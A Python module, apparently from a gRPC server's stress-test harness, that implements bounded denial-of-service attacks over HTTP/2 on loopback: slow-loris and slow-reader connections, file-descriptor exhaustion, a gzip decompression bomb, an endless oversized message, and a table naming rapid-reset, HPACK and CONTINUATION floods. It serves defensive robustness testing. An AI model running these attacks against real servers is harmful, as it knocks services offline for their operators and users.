"""What a hostile client does to a gRPC server, each attack a function of (address, size, hold_s).

`address` is HOST:PORT on loopback and speaks HTTP/2 without TLS. `size` is what the attack counts;
ATTACKS holds it. Every attack is bounded by its size and by PATIENCE_S, and returns a line that says
what the server did. That the server closes a connection is a right answer, never an error.
"""

import os
import struct
import zlib

import grpc

import floods
import h2
from attack_tools import (DECODE, ENCODE, INFO, PATIENCE_S, Tally, close_all, hold, open_many,
                          read_varint, send_windowed, varint)


def slow_loris(address, size, hold_s):
    """Connections that say nothing, half a preface, or half a call, and stay."""
    tally = Tally()
    third = size // 3
    connections = open_many(address, third, tally, preface=False)
    for connection in open_many(address, third, tally, preface=False):
        connections.append(connection)
        try:
            connection.send(h2.PREFACE[:10])
        except OSError:
            tally.add("refused the preface")
    for connection in open_many(address, size - 2 * third, tally):
        connections.append(connection)
        try:
            connection.send(h2.frame(h2.HEADERS, 0, 1, h2.grpc_headers(INFO)[:20]))
        except OSError:
            tally.add("refused the headers")
    tally.add("closed by the server", hold(connections, hold_s))
    close_all(connections)
    return tally.text()


def coded_zeros(address, count):
    """A small stream that Decode answers with `count` bytes."""
    request = b"\x0a" + varint(count) + b"\0" * count
    with grpc.insecure_channel(address) as channel:
        answer = channel.unary_unary(ENCODE)(request, timeout=PATIENCE_S, wait_for_ready=True)
    assert answer[0] == 0x0A, "EncodeResponse.coded comes first"
    size, at = read_varint(answer, 1)
    return answer[at:at + size]


ANSWER_BYTES = 256 << 10


def slow_readers(address, size, hold_s):
    """Callers of 256 KiB answers whose windows stay shut: they never read."""
    tally = Tally()
    coded = coded_zeros(address, ANSWER_BYTES)
    request = h2.message(b"\x0a" + varint(len(coded)) + coded)
    connections = open_many(address, size, tally, settings=[(h2.INITIAL_WINDOW_SIZE, 0)])
    for connection in connections:
        try:
            connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.grpc_headers(DECODE)) +
                            h2.frame(h2.DATA, h2.END_STREAM, 1, request))
        except OSError:
            tally.add("refused the call")
    tally.add("closed by the server", hold(connections, hold_s))
    close_all(connections)
    return tally.text()


def descriptor_storm(address, size, hold_s):
    """More connections than the server may have descriptors, then all of them gone."""
    tally = Tally()
    connections = open_many(address, size, tally)
    tally.add("closed by the server", hold(connections, hold_s))
    close_all(connections)
    return tally.text()


def zero_bomb(bytes_out):
    """gzip of zeros: a thousandth of what it inflates to."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = bytes(1 << 20)
    return b"".join(packer.compress(block) for _ in range(bytes_out >> 20)) + packer.flush()


def compressed_bomb(address, size, hold_s):
    """A gzip message that inflates to `size` MiB, honest and dishonest about its encoding."""
    del hold_s
    tally = Tally()
    # EncodeRequest.data, so that it would even parse.
    bomb = h2.message(zero_bomb(size << 20), compressed=True)
    variants = [[("grpc-encoding", "gzip")], [("grpc-encoding", "identity")], [],
                [("content-encoding", "gzip")], [("grpc-encoding", "deflate")]]
    for extra in variants:
        try:
            with h2.Connection(address) as connection:
                connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, 1,
                                         h2.grpc_headers(ENCODE, *extra)))
                # The first window only: 64 KiB of gzip are 64 MiB of zeros. More when it opens.
                status = send_windowed(connection, 1, bomb)
                tally.add(status)
        except OSError:
            tally.add("closed by the server")
    return tally.text()


def endless_message(address, size, hold_s):
    """A message that says it has 4 GiB, of which `size` MiB come; no more, no end."""
    tally = Tally()
    with h2.Connection(address) as connection:
        connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.grpc_headers(ENCODE)))
        data = struct.pack(">BI", 0, (1 << 32) - 1) + bytes(size << 20)
        try:
            tally.add(send_windowed(connection, 1, data, end_stream=False))
        except OSError:
            tally.add("cut off")
        tally.add("closed by the server", hold([connection], hold_s))
    return tally.text()


# name: (attack, full size, little size)
ATTACKS = {
    "rapid-reset": (floods.rapid_reset, 100_000, 5_000),
    "slow-loris": (slow_loris, 2_000, 150),
    "slow-readers": (slow_readers, 100, 20),
    "descriptor-storm": (descriptor_storm, 1_500, 150),
    "hpack-flood": (floods.hpack_flood, 512, 32),
    "hpack-varint": (floods.hpack_varint, 1_000, 50),
    "continuation-flood": (floods.continuation_flood, 4_096, 256),
    "compressed-bomb": (compressed_bomb, 512, 64),
    "endless-message": (endless_message, 256, 16),
    "bad-headers": (floods.bad_headers, 3, 1),
    "control-flood": (floods.control_flood, 100_000, 10_000),
    "malformed": (floods.malformed, 4_000, 400),
}


if __name__ == "__main__":
    import sys
    name, target = sys.argv[1:3]
    # The attacker is another machine in truth: here it may not take the server's processor.
    os.nice(10)
    attack, full, _ = ATTACKS[name]
    print(attack(target, int(sys.argv[3]) if len(sys.argv) > 3 else full, 10), flush=True)
